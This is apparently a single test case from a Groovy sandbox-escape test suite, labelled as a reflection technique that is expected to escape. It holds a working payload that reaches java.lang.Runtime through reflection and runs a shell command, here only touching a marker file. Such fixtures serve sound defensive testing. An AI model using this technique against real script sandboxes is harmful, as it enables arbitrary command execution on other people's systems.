// class: reflection
// source: original
// expect: escape
def k = [].class
k.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch @MARKER@').waitFor()
